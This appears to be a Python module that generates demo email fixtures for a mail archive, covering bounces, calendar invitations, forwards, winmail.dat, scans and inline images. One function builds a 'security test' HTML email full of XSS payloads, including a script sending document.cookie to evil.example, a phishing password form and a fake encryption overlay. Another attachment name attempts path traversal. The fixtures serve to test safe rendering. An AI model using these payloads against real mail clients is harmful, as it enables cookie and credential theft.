"""Mail that is well-formed and more than text: bounce, invitation, forward, winmail.dat, a trap."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from email.utils import format_datetime

from . import attachments, wire
from .envelope import EVENTS, Envelope, message_id
from .message import DOMAIN, DemoMessage
from .moments import days_before
from .people import PEOPLE, Person

MAILER_DAEMON = Person("Mail Delivery System", f"MAILER-DAEMON@mx.{DOMAIN}", 60, agent="Postfix")
AUDITOR = Person("Security Audit", "audit@harbour-pentest.example", 60, agent="swaks 20240103")
PLAN = "Übersichtsplan Außenbecken – Strömungsmessung bei Nordwestwind (2. Entwurf, geprüft).pdf"


def messages(end: datetime) -> Iterator[DemoMessage]:
    """Yield one message of each kind."""
    yield from bounce(end)
    yield from invitation(end)
    yield forwarded(end)
    yield long_names(end)
    yield outlook(end)
    yield hostile(end)
    yield scan(end)
    yield pictures(end)


def bounce(end: datetime) -> Iterator[DemoMessage]:
    """A message from Clara to a closed address, and its delivery report (RFC 3464)."""
    clara = PEOPLE["clara"]
    gone = Person("Kulturbüro Laboe", "kulturbuero@laboe-stadt.example", 60)
    sent = days_before(end, 258, clara.zone, 14, 12)
    first = message_id(clara, "laboe")
    letter = wire.text("Dear Sir or Madam,\n\nwe would like to show our wave tank in Laboe.\n")
    envelope = Envelope(
        "events", clara, sent, "A wave tank for Laboe?", first, to=(gone,), folder="Sent"
    )
    yield envelope.deliver(letter)

    report = wire.text(
        "This is the mail system at host mx.tidemark.example.\n\n"
        "I'm sorry to have to inform you that your message could not be\n"
        "delivered to one or more recipients.\n\n"
        f"<{gone.address}>: host mail.laboe-stadt.example[192.0.2.77] said:\n"
        "    550 5.1.1 User unknown; the office has closed (in reply to RCPT TO)\n"
    )
    status = wire.Part(
        (("Content-Type", "message/delivery-status"), ("Content-Description", "Delivery report")),
        wire.block(
            (("Reporting-MTA", f"dns; mx.{DOMAIN}"), ("Arrival-Date", format_datetime(sent)))
        )
        + b"\r\n"
        + wire.block(
            (
                ("Final-Recipient", f"rfc822; {gone.address}"),
                ("Action", "failed"),
                ("Status", "5.1.1"),
                ("Diagnostic-Code", "smtp; 550 5.1.1 User unknown; the office has closed"),
            )
        ),
    )
    returned = wire.Part(
        (("Content-Type", "message/rfc822"), ("Content-Description", "Undelivered Message")),
        wire.message(envelope.headers(), letter),
    )
    back = Envelope(
        "events",
        MAILER_DAEMON,
        sent + timedelta(minutes=2),
        "Undelivered Mail Returned to Sender",
        message_id(MAILER_DAEMON, "laboe"),
        references=(first,),
        extra=(("Auto-Submitted", "auto-replied"),),
    )
    yield back.deliver(
        wire.multipart("report", (report, status, returned), "; report-type=delivery-status")
    )


def invitation(end: datetime) -> Iterator[DemoMessage]:
    """An invitation (RFC 5546 METHOD:REQUEST), and its update, as calendars send them."""
    marta = PEOPLE["marta"]
    begin = days_before(end, 75, 0, 9)
    first = message_id(marta, "walk-through")
    for sequence, (days, place) in enumerate(((98, "Hall 3, stand B14"), (92, "Hall 3, gate 2"))):
        sent = days_before(end, days, marta.zone, 10, 40 + sequence)
        event = "\r\n".join(
            (
                "BEGIN:VCALENDAR",
                "PRODID:-//Baltic Expo//Calendar 4//EN",
                "VERSION:2.0",
                "METHOD:REQUEST",
                "BEGIN:VEVENT",
                "UID:walk-through-b14@baltic-expo.example",
                f"SEQUENCE:{sequence}",
                f"DTSTAMP:{sent.astimezone(begin.tzinfo):%Y%m%dT%H%M%SZ}",
                f"DTSTART:{begin:%Y%m%dT%H%M%SZ}",
                f"DTEND:{begin + timedelta(minutes=45):%Y%m%dT%H%M%SZ}",
                "SUMMARY:Walk-through of stand B14",
                _escaped("LOCATION", place),
                f"ORGANIZER;CN=Marta Wisniewska:mailto:{marta.address}",
                f"ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{EVENTS.address}",
                "END:VEVENT",
                "END:VCALENDAR",
                "",
            )
        )
        title = "Updated invitation" if sequence else "Invitation"
        subject = f"{title}: Walk-through of stand B14"
        text = f"{subject}\n\n{begin:%A}, {begin.day} {begin:%B %Y}, {begin:%H:%M} UTC\n{place}\n"
        calendar = wire.text(
            event.replace("\r\n", "\n"), "calendar", "utf-8", "base64", "; method=REQUEST"
        )
        alternative = wire.multipart(
            "alternative", (wire.text(text), wire.text(_page(text), "html"), calendar)
        )
        ics = wire.file(event.encode(), "application/ics", "invite.ics")
        identity = first if not sequence else message_id(marta, "walk-through", sequence)
        envelope = Envelope(
            "events", marta, sent, subject, identity, references=(first,) if sequence else ()
        )
        yield envelope.deliver(wire.multipart("mixed", (alternative, ics)))


def _escaped(name: str, value: str) -> str:
    # A comma separates values in iCalendar (RFC 5545 section 3.3.11).
    return f"{name}:" + value.replace(",", "\\,")


def _page(text: str) -> str:
    return "<html><body><p>" + text.strip().replace("\n", "<br>\n") + "</p></body></html>\n"


def forwarded(end: datetime) -> DemoMessage:
    """A message with another one attached whole (message/rfc822)."""
    harriet, lena = PEOPLE["harriet"], PEOPLE["lena"]
    written = days_before(end, 330, lena.zone, 21, 4)
    inner = Envelope(
        "events",
        lena,
        written,
        "Ebba asks: does the sea get tired?",
        message_id(lena, "tired"),
        to=(harriet,),
    )
    drawing = wire.file(
        attachments.scene("#fadbd8", kind="PNG"), "image/png", "does-the-sea-get-tired.png"
    )
    question = wire.text(
        "Ebba (10) asks if the sea gets tired of going up and down all day.\nI said that I know"
        " somebody who knows. Her drawing is attached.\n\nLena\n"
    )
    attached = wire.Part(
        (
            ("Content-Type", "message/rfc822"),
            ("Content-Disposition", 'attachment; filename="Does the sea get tired.eml"'),
        ),
        wire.message(inner.headers(), wire.multipart("mixed", (question, drawing))),
    )
    subject = "Fwd: Ebba asks: does the sea get tired?"
    sent = days_before(end, 329, harriet.zone, 9, 15)
    envelope = Envelope("events", harriet, sent, subject, message_id(harriet, subject))
    text = wire.text(
        "Clara, this is for whoever writes the Tide Letter. I have been thinking about it all\n"
        "morning and the post is not sorted yet.\n\nHarriet\n"
    )
    return envelope.deliver(wire.multipart("mixed", (text, attached)))


def long_names(end: datetime) -> DemoMessage:
    """Attachments with long names in several scripts (RFC 2231, in pieces)."""
    bo = PEOPLE["bo"]
    subject = "Drawings for the outdoor basin, with their full names"
    document = attachments.docx("Strömungsmessung", "Entwurf vom Frühjahr, bitte nicht verteilen.")
    files = (
        wire.file(
            attachments.pdf("Outdoor basin", "Scale 1:200", "North is up."), "application/pdf", PLAN
        ),
        wire.file(document, attachments.TYPES["docx"], "潮位計の設置手順書(改訂第三版).docx"),
        wire.file(attachments.csv(seed=3.0), "text/csv", "قراءات-المحطة-٧.csv"),
        wire.file(
            attachments.chart("Current at 2 m", 0.4), "image/png", "../../etc/strøm & <vind>.png"
        ),
    )
    text = wire.text(
        "The drawings come from three offices with three ideas of what a file name is.\n"
        "I have not touched the names. One of them tries to climb out of its folder.\n\nBo\n"
    )
    sent = days_before(end, 251, bo.zone, 15, 31)
    envelope = Envelope("events", bo, sent, subject, message_id(bo, subject))
    return envelope.deliver(wire.multipart("mixed", (text, *files)))


def outlook(end: datetime) -> DemoMessage:
    """What Outlook makes of attachments where it sends "rich text": a winmail.dat."""
    marta = PEOPLE["marta"]
    plan = attachments.pdf("Stand B14", "Hall 3, gate 2", "Power: left of the pillar.")
    data = attachments.winmail(
        ("stand-b14.pdf", plan), ("hall-3.png", attachments.chart("Visitors per hour", 0.2))
    )
    subject = "Stand B14: plan and last year's visitors"
    sent = days_before(end, 90, marta.zone, 15, 12)
    envelope = Envelope("events", marta, sent, subject, message_id(marta, subject))
    text = wire.text(
        "Dear Clara,\n\nthe plan of your stand and last year's visitors are attached. Should you"
        f"\nsee only a winmail.dat, please tell me.\n\n-- \n{marta.signature}\n"
    )
    sheet = wire.file(data, "application/ms-tnef", "winmail.dat")
    return envelope.deliver(wire.multipart("mixed", (text, sheet)))


def hostile(end: datetime) -> DemoMessage:
    """What a security audit would send, to show that nothing of it runs, loads or covers."""
    page = """<html><head>
<title>Security test</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/link.css">
<style>
  @import url("https://evil.example/import.css");
  body { background: url(https://evil.example/background.png) }
  .cover { position: fixed; inset: 0; z-index: 99999; background: #fff }
  @font-face { font-family: spy; src: url(https://evil.example/font.woff) }
</style>
<script>document.title = "script ran"; fetch("https://evil.example/?" + document.cookie)</script>
</head>
<body onload="alert('onload ran')">
<p>Dear Events team, this is the <b>yearly security test</b> you have ordered. Everything below is
harmless: if your archive is good, you read only this text, and nothing else happens.</p>
<img src="x" onerror="alert('onerror ran')">
<img src="https://evil.example/pixel.gif" width="1" height="1">
<svg onload="alert('svg ran')"><script>alert("svg script ran")</script></svg>
<a href="javascript:alert('link ran')">Read the report</a>
<a href="data:text/html,<script>alert(1)</script>">Read it here</a>
<a href="https://evil.example/intranet">https://intranet.tidemark.example/audit</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object.swf"></object>
<div style="background-image:url('https://evil.example/div.png');width:expression(alert(1))">-</div>
<form action="https://evil.example/login" method="post">
  Your session has ended. Password: <input type="password" name="password" autofocus>
  <button formaction="https://evil.example/button">Log in again</button>
</form>
<div class="cover" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647">
  <h1>Your archive has been encrypted</h1></div>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mutation ran')"></style></table>
<p>Kind regards, the auditors</p>
</body></html>
"""
    subject = "Yearly security test (harmless)"
    sent = days_before(end, 110, AUDITOR.zone, 13, 37)
    text = wire.text("This is the yearly security test. See the HTML part.\n")
    part = wire.multipart("alternative", (text, wire.text(page, "html")))
    envelope = Envelope("events", AUDITOR, sent, subject, message_id(AUDITOR, subject))
    return envelope.deliver(part)


def scan(end: datetime) -> DemoMessage:
    """What a scanner sends: no text at all, only a PDF as the whole message."""
    scanner = Person("Scanner, 2nd floor", f"scanner@{DOMAIN}", 60, agent="ScanStation 400")
    sent = days_before(end, 58, scanner.zone, 16, 44)
    subject = "Scan 0417"
    envelope = Envelope(
        "engineering", scanner, sent, subject, message_id(scanner, subject), listed=False
    )
    data = attachments.pdf("Delivery note 0417", "120 anodes, aluminium-indium", "Received: Bo")
    return envelope.deliver(wire.file(data, "application/pdf", "scan-0417.pdf"))


def pictures(end: datetime) -> DemoMessage:
    """HTML with pictures in the text and the same picture attached besides."""
    mirjam = PEOPLE["mirjam"]
    names = ("week-before", "week-after")
    parts = [
        wire.file(
            attachments.chart(name.replace("-", " "), place * 0.9),
            "image/png",
            f"{name}.png",
            cid=f"{name}@{DOMAIN}",
        )
        for place, name in enumerate(names)
    ]
    rows = "".join(
        f'<p>{name}:<br><img src="cid:{name}@{DOMAIN}" alt="{name}"></p>' for name in names
    )
    page = wire.text(
        f"<html><body><p>Before and after the new damping ring, same gauge.</p>{rows}"
        "<p>Mirjam</p></body></html>\n",
        "html",
    )
    related = wire.multipart("related", (page, *parts))
    plain = wire.text("Before and after the new damping ring, same gauge: see the pictures.\n")
    body = wire.multipart("alternative", (plain, related))
    sheet = wire.file(attachments.csv(96, 1.5), "text/csv", "damping-ring.csv")
    subject = "Damping ring: before and after"
    sent = days_before(end, 82, mirjam.zone, 13, 2)
    envelope = Envelope("engineering", mirjam, sent, subject, message_id(mirjam, subject))
    return envelope.deliver(wire.multipart("mixed", (body, sheet)))
